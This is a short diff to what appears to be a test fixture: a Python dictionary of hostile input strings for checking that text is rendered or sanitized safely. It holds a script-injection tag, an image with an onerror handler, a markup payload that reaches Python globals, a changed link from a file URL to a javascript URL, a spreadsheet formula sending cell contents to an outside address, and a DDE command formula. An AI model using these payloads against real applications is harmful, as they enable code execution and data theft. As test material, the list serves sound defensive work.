@@ -2,7 +2,7 @@
 
 TEXTS = {
     "markup": "<b>bold</b> <script>alert(1)</script> <img src=http://192.0.2.1/x.png onerror=x()> &amp; &#x41; ]]>",
-    "paper markup": '<para><font color="[[[getattr(pow,Word(\'__globals__\'))]]]">x</font><br/><a href="file:///etc">',
+    "paper markup": '<para><font color="[[[getattr(pow,Word(\'__globals__\'))]]]">x</font><br/><a href="javascript:x">',
     "style": "</style><style>*{display:none}</style> <!-- \" onload='x' -->",
     "formula": '=HYPERLINK("http://192.0.2.1/"&A1,"click")',
     "command": "=cmd|' /C calc'!A0",
